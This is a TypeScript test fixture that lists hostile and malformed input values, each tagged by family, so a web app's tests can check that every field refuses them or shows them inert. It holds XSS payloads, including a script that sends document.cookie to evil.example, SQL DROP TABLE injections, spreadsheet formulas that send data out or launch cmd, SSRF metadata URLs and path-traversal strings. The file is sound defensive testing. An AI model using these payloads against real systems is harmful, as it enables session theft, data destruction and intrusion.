/**
 * Hostile and malformed values for every input of the app. Each entry names its family so a
 * failure says which kind of value got through. Tests send them everywhere a person can type
 * or post something; the answer must be a clear refusal (4xx, field error, DomainError) or
 * the value stored as given and shown inert — never a 500, never markup that runs.
 */
export type BadValue = { family: string; value: string };

const v = (family: string, values: string[]): BadValue[] => values.map((value) => ({ family, value }));

const scripts = v('script', [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><script>alert(document.cookie)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<script>fetch("//evil.example?c="+document.cookie)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss>alert(1)</script>',
  '<script\x0d\x0a>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<script type="module">import("//evil.example")</script>',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
]);

const handlers = v('event-handler', [
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="#" onclick="alert(1)">click</a>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '<div style="background:url(javascript:alert(1))">',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button>go</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<marquee onstart=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<x contenteditable onblur=alert(1)>lose focus</x>',
]);

const urls = v('url', [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#x09;script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  '//evil.example',
  'http://localhost',
  'http://127.0.0.1:5432/',
  'http://[::1]/',
  'http://169.254.169.254/latest/meta-data/',
  'https://user:pass@evil.example',
  'https://evil.example/\u202Egnp.exe',
  'https://xn--pple-43d.com',
  '[click](javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '![img](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n[click][x]',
]);

const sql = v('sql', [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE sign_ons; --",
  '"; DROP TABLE campaigns; --',
  "1; DELETE FROM sign_ons WHERE '1'='1",
  "' UNION SELECT email FROM coordinators --",
  "admin'--",
  "') OR ('x'='x",
  "1' AND pg_sleep(5)--",
  "'; SELECT pg_sleep(5); --",
  '$$; DROP TABLE sign_ons; $$',
  "E'\\x27",
  "\\'; --",
  '%27%20OR%201=1--',
  "' || (SELECT current_user) || '",
  "Robert'); DROP TABLE Students;--",
  '1 OR 1=1',
  '%',
  '_',
  '\\',
]);

const formulas = v('csv-formula', [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
  '=DDE("cmd";"/C calc";"!A0")',
  "'=1+1",
  '"=1+1"',
  '=1+1,=2+2',
  'a,b,"c"\r\nd',
  '=WEBSERVICE("http://evil.example")',
]);

const lengths = v('overlong', [
  'A'.repeat(201),
  'A'.repeat(301),
  'A'.repeat(2001),
  'A'.repeat(5_001),
  'A'.repeat(70_000),
  'é'.repeat(10_000),
  '😀'.repeat(5_000),
  ' '.repeat(10_000),
  'a '.repeat(50_000),
  '\n'.repeat(10_000),
  `${'a'.repeat(250)}@example.org`,
  `x@${'a'.repeat(300)}.org`,
  'A'.repeat(1_000_000),
  'e\u0301'.repeat(5_000),
  'Z' + '\u0300'.repeat(500),
]);

const controls = v('control', [
  '\u0000',
  'Name\u0000Hidden',
  '\u0007bell',
  '\u0008\u0008\u0008backspace',
  'line\u000Bbreak',
  'form\u000Cfeed',
  'esc\u001B[31mred',
  '\u007Fdelete',
  '\u0085next line',
  '\u009Bcsi',
  'tab\there',
  'cr\rlf\n',
  '\r\n\r\n',
  'Content-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'Bcc: victim@example.org\r\n',
  '\u2028line separator',
  '\u2029paragraph separator',
  '\uFEFFbom',
  '\uFFFE',
  '\uFFFF',
]);

const bidi = v('bidi', [
  '\u202Egnp.exe',
  'Good \u202Ecorp\u202C name',
  '\u202Dforced ltr',
  '\u202Aembed\u202C',
  '\u202Bembed rtl\u202C',
  '\u2066isolate\u2069',
  '\u2067isolate rtl\u2069',
  '\u2068first strong\u2069',
  '\u200Fright-to-left mark',
  '\u200Eleft-to-right mark',
  '\u061Carabic mark',
  'admin\u202E\u2066',
  'مؤسسة\u202Eevil',
  '\u202E\u0000',
  'abc\u2069',
]);

const invisible = v('zero-width', [
  '\u200B',
  'Ama\u200Bzon',
  'Green\u200CPeace',
  'Oxf\u200Dam',
  '\u2060word joiner',
  '\u00AD',
  'soft\u00ADhyphen',
  '\u180E',
  '\u3164',
  '\u115F\u1160',
  '\u200B\u200B\u200B',
  '\uFE0F',
  '\u034F',
  '\u2800',
  '\u17B5',
]);

const homoglyphs = v('homoglyph', [
  'Аmnesty International', // Cyrillic А
  'Greenpеace', // Cyrillic е
  'Oхfam', // Cyrillic х
  'ΡΑΥΡΑL', // Greek
  'Micr0soft',
  'Gооgle',
  'ＦＵＬＬＷＩＤＴＨ',
  'ﬁnance ﬂow', // ligatures
  '𝐁𝐨𝐥𝐝 𝐍𝐚𝐦𝐞',
  'ℌ𝔢𝔩𝔩𝔬',
  'Ⓒircled',
  'ⅰⅱⅲ',
  'Ǉ digraph',
  'İstanbul',
  'ß STRASSE',
]);

const traversal = v('traversal', [
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..\\..\\windows\\win.ini',
  '....//....//',
  '/etc/passwd',
  'C:\\Windows\\System32',
  '%00',
  'slug%00.json',
  'a/../../api/v1',
  '.',
  '..',
  '~root',
  'protect-the-river-commons/../../dev/mailbox',
  '%252e%252e%252f',
  'protect-the-river-commons%2F..',
  'x'.repeat(4096),
  'PROTECT-THE-RIVER-COMMONS',
  'protect-the-river-commons ',
  'protect_the_river_commons',
]);

const tokens = v('token', [
  '',
  ' ',
  'null',
  'undefined',
  '0',
  '-1',
  'true',
  '[]',
  '{}',
  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  '____________________________________________',
  '*',
  'a'.repeat(43),
  'a'.repeat(44),
  'z'.repeat(1000),
  'token?admin=1',
  'token#fragment',
  'token;drop',
  '%F0%9F%98%80',
  '\uD800',
]);

const types = v('type', [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '9007199254740993',
  '-0',
  '0x10',
  '1.5',
  '01',
  '+1',
  '1 000',
  '１２３',
  '١٢٣',
  '2027-02-30T25:61',
  '0000-00-00',
  '9999-12-31T23:59',
  '1970-01-01T00:00',
  'Europe/Nowhere',
  'Etc/GMT+14',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'on',
]);

// Lone surrogates are what invalid UTF-8 becomes once decoded into a string ('\uFFFD' after
// a lenient decoder); the raw bytes themselves are in invalidUtf8 below.
const surrogates = v('invalid-utf8', [
  '\uD800',
  '\uDC00',
  'a\uD800b',
  '\uDBFF\uDBFF',
  '\uDFFF\uD800',
  '\uFFFD',
  '\uFFFD\uFFFD\uFFFD',
  'Ã©',
  'â€™',
  '\u00C0\u0080',
]);

const emails = v('email', [
  'not-an-email',
  '@example.org',
  'a@',
  'a@b',
  'a@@example.org',
  '"<script>"@example.org',
  'a@example.org\r\nBcc: victim@example.org',
  'a@example.org, victim@example.org',
  'a@example.org;victim@example.org',
  '<a@example.org>',
  'Name <a@example.org>',
  'a@[127.0.0.1]',
  'a@localhost',
  '=1+1@example.org',
  'a@exa mple.org',
]);

export const corpus: BadValue[] = [
  ...scripts,
  ...handlers,
  ...urls,
  ...sql,
  ...formulas,
  ...lengths,
  ...controls,
  ...bidi,
  ...invisible,
  ...homoglyphs,
  ...traversal,
  ...tokens,
  ...types,
  ...surrogates,
  ...emails,
];

/** Short values of every family: what fits in a name field, for tests that render or store. */
export const storable = corpus.filter((c) => c.value.length <= 200);

/** Byte sequences that are not UTF-8, sent raw in request bodies. */
export const invalidUtf8: { family: string; bytes: Uint8Array }[] = [
  [0xc3, 0x28],
  [0xa0, 0xa1],
  [0xe2, 0x28, 0xa1],
  [0xe2, 0x82, 0x28],
  [0xf0, 0x28, 0x8c, 0xbc],
  [0xf0, 0x90, 0x28, 0xbc],
  [0xf8, 0xa1, 0xa1, 0xa1, 0xa1],
  [0xfc, 0xa1, 0xa1, 0xa1, 0xa1, 0xa1],
  [0xc0, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xff, 0xfe, 0x00],
  [0xc0, 0x80],
].map((b) => ({ family: 'invalid-utf8-bytes', bytes: new Uint8Array(b) }));

/** Names that must come out inert on the page and in exports (the e2e spec signs with these). */
export const renderProbes = [
  '<img src=x onerror="window.__pwned=1">Probe Img',
  '<script>window.__pwned=2</script>Probe Script',
  '"><svg onload="window.__pwned=3">Probe Svg',
  '=HYPERLINK("http://evil.example","Probe Formula")',
  '[Probe Link](javascript:window.__pwned=4)',
];
